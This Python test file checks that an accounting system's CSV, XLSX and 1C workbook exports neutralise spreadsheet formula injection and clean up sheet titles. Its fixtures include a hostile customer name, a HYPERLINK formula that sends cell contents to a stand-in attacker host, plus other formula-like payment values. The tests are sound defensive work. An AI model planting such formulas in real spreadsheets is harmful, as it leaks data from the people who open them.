"""Exports and text from outside: no formula runs, no sheet title breaks (CWE-1236).

A customer named ``=HYPERLINK(...)`` in a CRM and a payment reference ``=1+1`` typed by a
payer reach every register and the accountant's 1C workbook as plain text: XLSX stores
them as string cells, CSV puts ``'`` before them. Money columns stay exact numbers, even
negative ones. A customer whose external key carries ``:`` or ``/`` (CRM-created,
imported by ИНН/КПП) still gets its statement as XLSX.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import TYPE_CHECKING, Any

from openpyxl import load_workbook

from api.accounting import export_1c_xlsx
from api.documents import export_register
from api.documents.tables import csv_text, sheet_title
from commands.record_charge import RecordCharge
from commands.record_payment import RecordPayment
from ledger.access import Role
from tests.api.conftest import auth
from tests.support.collections import on
from tests.support.dsl import register, send

if TYPE_CHECKING:
    from uuid import UUID

    from fastapi.testclient import TestClient
    from openpyxl.worksheet.worksheet import Worksheet

    from api.bootstrap import Services

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")'
EVIL_REFERENCE = "=1+1"
KEY = "amocrm:contact:7/1"
PERIOD: dict[str, Any] = {"date_from": date(2026, 1, 1), "date_to": date(2026, 1, 31)}


def hostile(services: Services) -> UUID:
    """A customer billed 1000.00 who pays 1500.00 (a credit of 500.00) by ``=1+1``."""
    customer = register(services, KEY, name=EVIL_NAME, inn="7707049388")
    send(services, RecordCharge(customer_id=customer, amount="1000.00", description="-Услуги"))
    send(services, RecordPayment(customer_id=customer, amount="1500.00", currency="RUB",
                                 reference=EVIL_REFERENCE, payer_name="@SUM(A1:A9)"))
    services.runner.catch_up()
    return customer


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


def only_sheet(content: bytes) -> Worksheet:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return sheet


def no_formulas(sheet: Worksheet) -> list[str]:
    """Every text cell of the sheet; asserts none of them is a formula."""
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                found.append(cell.value)
    return found


def test_csv_text_that_a_spreadsheet_would_run_gets_a_quote() -> None:
    assert [csv_text(t) for t in ("=1+1", "+7 495", "-x", "@SUM(A1)", "\tA", "\rA")] == [
        "'=1+1", "'+7 495", "'-x", "'@SUM(A1)", "'\tA", "'\rA"]
    assert csv_text("ООО Ромашка") == "ООО Ромашка"


def test_registers_as_csv_neutralise_text_but_not_money(services: Services) -> None:
    hostile(services)
    payments = csv_rows(export_register(services, "payments", "csv").content)
    assert (payments[0]["customer"], payments[0]["reference"], payments[0]["payer_name"],
            payments[0]["external_key"], payments[0]["amount"]) == (
        "'" + EVIL_NAME, "'=1+1", "'@SUM(A1:A9)", KEY, "1500.00")
    invoices = csv_rows(export_register(services, "invoices", "csv").content)
    assert invoices[0]["customer"] == "'" + EVIL_NAME


def test_the_statement_csv_keeps_a_negative_balance_a_number(
    services: Services, client: TestClient, keys: dict[Role, str],
) -> None:
    customer = hostile(services)
    exported = export_register(services, "statement", "csv", customer_id=customer, **PERIOD)
    rows = csv_rows(exported.content)
    assert rows[-1]["balance"] == "-500.00"  # a credit: a money column, not text
    served = client.get(f"/v1/customers/{customer}/statement?from=2026-01-01&to=2026-01-31"
                        "&format=csv", headers=auth(keys[Role.ACCOUNTANT]))
    assert served.status_code == 200
    assert served.content == exported.content


def test_registers_as_xlsx_store_formula_like_text_as_strings(services: Services) -> None:
    hostile(services)
    for name in ("invoices", "payments"):
        content = export_register(services, name, "xlsx").content
        assert EVIL_NAME in no_formulas(only_sheet(content)), name
    texts = no_formulas(only_sheet(export_register(services, "payments", "xlsx").content))
    assert EVIL_REFERENCE in texts


def test_the_statement_of_a_crm_customer_is_an_xlsx_with_a_clean_title(
    services: Services, client: TestClient, keys: dict[Role, str],
) -> None:
    customer = hostile(services)
    found = export_register(services, "statement", "xlsx", customer_id=customer, **PERIOD)
    sheet = only_sheet(found.content)
    assert sheet.title == "statement-amocrm_contact_7_1-20"
    no_formulas(sheet)
    response = client.get(f"/v1/exports/statement.xlsx?customer_id={customer}"
                          "&from=2026-01-01&to=2026-01-31", headers=auth(keys[Role.AUDITOR]))
    assert response.status_code == 200, response.text


def test_a_sheet_title_never_holds_what_excel_refuses() -> None:
    assert sheet_title("statement-inn:7707049388/770701001") == "statement-inn_7707049388_770701"
    assert sheet_title("a[1]*?\\") == "a_1____"
    assert sheet_title("") == "export"


def test_the_1c_workbook_stores_formula_like_text_as_strings(services: Services) -> None:
    hostile(services)
    on(services, date(2026, 3, 1))  # January is closed
    book = load_workbook(io.BytesIO(export_1c_xlsx(services, date(2026, 1, 1),
                                                   date(2026, 1, 31))))
    texts = [t for sheet in book.worksheets for t in no_formulas(sheet)]
    assert EVIL_NAME in texts
    assert EVIL_REFERENCE in texts
    amount = book["Оплаты"].cell(row=2, column=9)
    assert (amount.data_type, Decimal(str(amount.value))) == ("n", Decimal("1500.00"))
